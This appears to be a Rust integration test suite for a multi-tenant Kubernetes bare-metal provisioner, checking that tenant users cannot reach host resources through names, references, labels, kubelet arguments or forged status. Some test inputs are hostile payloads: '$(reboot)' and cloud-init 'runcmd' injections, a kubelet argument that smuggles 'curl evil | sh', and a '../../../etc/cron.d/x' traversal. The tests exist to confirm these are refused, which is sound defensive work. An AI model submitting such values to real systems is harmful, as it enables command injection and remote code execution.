//! What a tenant's user writes to get out of its own: names, references, arguments, records that are the host's.

use hostler_api as api;
use kube::CustomResourceExt as _;
use kube::api::{Patch, PatchParams};
use serde_json::{Value, json};

use super::stage;
use crate::harness::{World, fixtures};

async fn yard(world: &World) {
    stage::plug(
        world,
        &fixtures().join("driver-hostile.wasm"),
        "driver-hostile",
        &stage::grant(&["racks".to_owned()]),
    );
    stage::apply(world, &stage::namespace("racks")).await;
    for number in 0..3 {
        for object in stage::host("racks", &format!("rack-{number}"), number) {
            stage::apply(world, &object).await;
        }
    }
    stage::apply(
        world,
        &stage::provider("yard", "hostile", &json!({"namespace": "racks"})),
    )
    .await;
    stage::project(world, "a").await;
    for tenant in ["one", "two"] {
        stage::apply(world, &stage::tenant("a", tenant, stage::PRIVATE)).await;
        stage::until_true(
            world,
            ("VirtualClusterInstance", Some("p-a"), tenant),
            "VirtualClusterReady",
        )
        .await;
    }
    stage::until_free(world, "racks", 3).await;
}

/// What the API server says to a change.
async fn refused(world: &World, kind: &str, name: &str, patch: Value) -> String {
    let api = stage::api(world, kind, Some("p-a"));
    api.patch(name, &PatchParams::default(), &Patch::Merge(&patch))
        .await
        .unwrap_err()
        .to_string()
}

async fn refusal(world: &World, object: &Value) -> String {
    world.refusal(&serde_saphyr::to_string(object).unwrap()).await
}

/// The definition refuses it; and where an object was stored before the definition said so, the host does.
async fn a_label_or_taint_that_is_none(world: &World) {
    let bad = [
        (
            "label-value",
            "nodeLabels",
            json!({"workload": "x$(reboot)"}),
            "is no label value",
        ),
        (
            "label-yaml",
            "nodeLabels",
            json!({"workload": "x\nruncmd: [reboot]"}),
            "is no label value",
        ),
        ("label-key", "nodeLabels", json!({"a b": "c"}), "is no valid key"),
        (
            "label-own",
            "nodeLabels",
            json!({"node-restriction.kubernetes.io/node-profile": "gold"}),
            "node-restriction",
        ),
        (
            "taint",
            "taints",
            json!([{"key": "a", "value": "b,c", "effect": "NoSchedule"}]),
            "is no label value",
        ),
        (
            "effect",
            "taints",
            json!([{"key": "a", "effect": "NoSchedule --v=9"}]),
            "is no effect",
        ),
    ];
    let claim_with = |name: &str, field: &str, value: &Value| {
        let mut claim = stage::claim("a", name, "one", "yard");
        claim["spec"][field] = value.clone();
        claim
    };
    for (name, field, value, _) in &bad {
        let said = refusal(world, &claim_with(name, field, value)).await;
        assert!(said.contains(&format!("spec.{field}")), "{name}: {said}");
    }
    let definition = api::NodeClaim::crd();
    hostler_cli::wire::install(&world.client, vec![crate::definitions::loosened(&definition)])
        .await
        .unwrap();
    for (name, field, value, part) in bad {
        stage::apply(world, &claim_with(name, field, &value)).await;
        let told = crate::harness::eventually(&format!("{name} is refused"), || async {
            let claim = stage::read(world, "NodeClaim", Some("p-a"), name).await.unwrap();
            match stage::condition(&claim, "Accepted") {
                Some(told) if told.status == "False" => Ok(told),
                other => Err(format!("{other:?}")),
            }
        })
        .await;
        assert!(told.message.contains(part), "{name}: {told:?}");
        stage::delete(world, "NodeClaim", Some("p-a"), name).await;
    }
    hostler_cli::wire::install(&world.client, vec![definition])
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_user_who_edits_what_he_may_reaches_nothing_that_he_may_not() {
    let world = World::new().await;
    let host = world.host().await;
    yard(&world).await;

    // Names that would become another name: none of them is taken.
    let long = "n".repeat(64);
    for (object, part) in [
        (stage::claim("a", &long, "one", "yard"), "at most 63 characters"),
        (stage::tenant("a", &long, stage::PRIVATE), "is a DNS label"),
        (
            stage::tenant("a", "dotted.name", stage::PRIVATE),
            "is a DNS label",
        ),
        (
            stage::tenant("a", "../../../etc/cron.d/x", stage::PRIVATE),
            "nvalid",
        ),
        (
            json!({"apiVersion": "management.loft.sh/v1", "kind": "Project", "metadata": {"name": "a.b"}, "spec": {}}),
            "without dots",
        ),
        (
            json!({"apiVersion": "management.loft.sh/v1", "kind": "Project", "metadata": {"name": "..", "labels": {}}, "spec": {}}),
            "nvalid",
        ),
        (
            json!({"apiVersion": "management.loft.sh/v1", "kind": "NodeProfile", "metadata": {"name": long}, "spec": {}}),
            "at most 63",
        ),
    ] {
        let said = refusal(&world, &object).await;
        assert!(said.contains(part), "{}: {said}", object["metadata"]["name"]);
    }
    for reference in [
        json!({"virtualCluster": "../../platform"}),
        json!({"namespace": "a/b"}),
        json!({"virtualCluster": "x".repeat(60)}),
    ] {
        let mut tenant = stage::tenant("a", "traveller", stage::PRIVATE);
        tenant["spec"]["clusterRef"] = reference;
        let said = refusal(&world, &tenant).await;
        assert!(said.contains("spec.clusterRef"), "{said}");
    }

    // A live claim does not change hands: not at once, and not by way of nobody.
    stage::apply(&world, &stage::claim("a", "live", "one", "yard")).await;
    stage::until_available(&world, "p-a", "live").await;
    for value in [json!("two"), Value::Null] {
        let said = refused(
            &world,
            "NodeClaim",
            "live",
            json!({"spec": {"vClusterRef": value}}),
        )
        .await;
        assert!(said.contains("vClusterRef is immutable"), "{said}");
    }

    // What stands in a command line of the kubelet is an argument, and none of the host's.
    for (name, field, value, reason) in [
        (
            "args-own",
            "kubeletArgs",
            json!({"node_labels": "node-restriction.kubernetes.io/node-profile=gold"}),
            "Refused",
        ),
        (
            "args-quote",
            "kubeletArgs",
            json!({"v": "2\" && curl evil | sh; \""}),
            "Refused",
        ),
        (
            "args-key",
            "kubeletArgs",
            json!({"v=2 --hostname-override": "rack-0"}),
            "Refused",
        ),
    ] {
        let mut claim = stage::claim("a", name, "one", "yard");
        claim["spec"][field] = value;
        stage::apply(&world, &claim).await;
        let told = stage::until(&world, ("NodeClaim", Some("p-a"), name), ("Provisioned", reason)).await;
        assert!(told.message.contains("spec.kubeletArgs"), "{told:?}");
        stage::delete(&world, "NodeClaim", Some("p-a"), name).await;
        stage::until_gone(&world, "NodeClaim", Some("p-a"), name).await;
    }
    a_label_or_taint_that_is_none(&world).await;

    // A status that somebody forged: no right of a tenant's user, but also no machine of another claim.
    let live = stage::read(&world, "NodeClaim", Some("p-a"), "live")
        .await
        .unwrap();
    let taken = live["status"]["nodeName"].as_str().unwrap().to_owned();
    let before = stage::read(&world, "BareMetalHost", Some("racks"), &taken)
        .await
        .unwrap();
    let mut forged = stage::claim("a", "forged", "two", "yard");
    forged["metadata"]["finalizers"] = json!(["hostler.dev/release"]);
    stage::apply(&world, &forged).await;
    stage::until_available(&world, "p-a", "forged").await;
    let status = json!({"status": {"machine": live["status"]["machine"], "order": live["status"]["order"]}});
    let api = stage::api(&world, "NodeClaim", Some("p-a"));
    let own = stage::read(&world, "NodeClaim", Some("p-a"), "forged")
        .await
        .unwrap()["status"]["nodeName"]
        .clone();
    api.patch_status("forged", &PatchParams::default(), &Patch::Merge(&status))
        .await
        .unwrap();
    stage::delete(&world, "NodeClaim", Some("p-a"), "forged").await;
    stage::until(
        &world,
        ("NodeClaim", Some("p-a"), "forged"),
        ("Destroyed", "StillHeld"),
    )
    .await;
    let after = stage::read(&world, "BareMetalHost", Some("racks"), &taken)
        .await
        .unwrap();
    assert_eq!(before, after, "a forged claim wrote to another one's machine");
    let own = stage::read(&world, "BareMetalHost", Some("racks"), own.as_str().unwrap())
        .await
        .unwrap();
    assert!(
        own["metadata"]["annotations"]["hostler.dev/loan"].is_string(),
        "its own machine was forgotten: {own}"
    );
    host.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_machine_that_is_changed_behind_its_claim_is_neither_given_up_nor_mistaken_for_another() {
    let world = World::new().await;
    let host = world.host().await;
    yard(&world).await;
    for name in ["stripped", "replaced"] {
        stage::apply(&world, &stage::claim("a", name, "one", "yard")).await;
        stage::until_available(&world, "p-a", name).await;
    }
    let machine = async |claim: &str| {
        let claim = stage::read(&world, "NodeClaim", Some("p-a"), claim)
            .await
            .unwrap();
        claim["status"]["nodeName"].as_str().unwrap().to_owned()
    };

    // The record is taken off by somebody who may write hosts.
    let name = machine("stripped").await;
    let known = stage::read(&world, "BareMetalHost", Some("racks"), &name)
        .await
        .unwrap();
    let record = known["metadata"]["annotations"]["hostler.dev/loan"].clone();
    let annotate = |value: Value| json!({"metadata": {"annotations": {"hostler.dev/loan": value}}});
    stage::change(
        &world,
        "BareMetalHost",
        Some("racks"),
        &name,
        annotate(Value::Null),
    )
    .await;
    stage::until(
        &world,
        ("NodeClaim", Some("p-a"), "stripped"),
        ("Provisioned", "LoanLost"),
    )
    .await;
    stage::until_event(&world, "stripped", "LoanLost").await;
    assert_eq!(machine("stripped").await, name, "the claim gave its machine up");
    let now = stage::read(&world, "BareMetalHost", Some("racks"), &name)
        .await
        .unwrap();
    assert_eq!(now["spec"], known["spec"]);
    stage::change(&world, "BareMetalHost", Some("racks"), &name, annotate(record)).await;
    stage::until_true(&world, ("NodeClaim", Some("p-a"), "stripped"), "Provisioned").await;

    // Another machine of the same name is another machine.
    let name = machine("replaced").await;
    stage::delete(&world, "BareMetalHost", Some("racks"), &name).await;
    stage::until_gone(&world, "BareMetalHost", Some("racks"), &name).await;
    // The credentials go with the host that owns them, and a little later: what is applied before is collected with them.
    stage::until_gone(&world, "Secret", Some("racks"), &format!("{name}-bmc")).await;
    let number: usize = name.trim_start_matches("rack-").parse().unwrap();
    for object in stage::host("racks", &name, number) {
        stage::apply(&world, &object).await;
    }
    stage::until(
        &world,
        ("NodeClaim", Some("p-a"), "replaced"),
        ("Provisioned", "MachineLost"),
    )
    .await;
    crate::harness::eventually("the newcomer is free", || async {
        let newcomer = stage::read(&world, "BareMetalHost", Some("racks"), &name)
            .await
            .unwrap();
        if stage::is_free(&newcomer) {
            Ok(())
        } else {
            Err(newcomer["status"].to_string())
        }
    })
    .await;
    let before = stage::read(&world, "BareMetalHost", Some("racks"), &name)
        .await
        .unwrap();
    stage::delete(&world, "NodeClaim", Some("p-a"), "replaced").await;
    stage::until_gone(&world, "NodeClaim", Some("p-a"), "replaced").await;
    assert_eq!(
        stage::read(&world, "BareMetalHost", Some("racks"), &name)
            .await
            .unwrap(),
        before,
        "the newcomer was written"
    );
    host.stop().await;
}
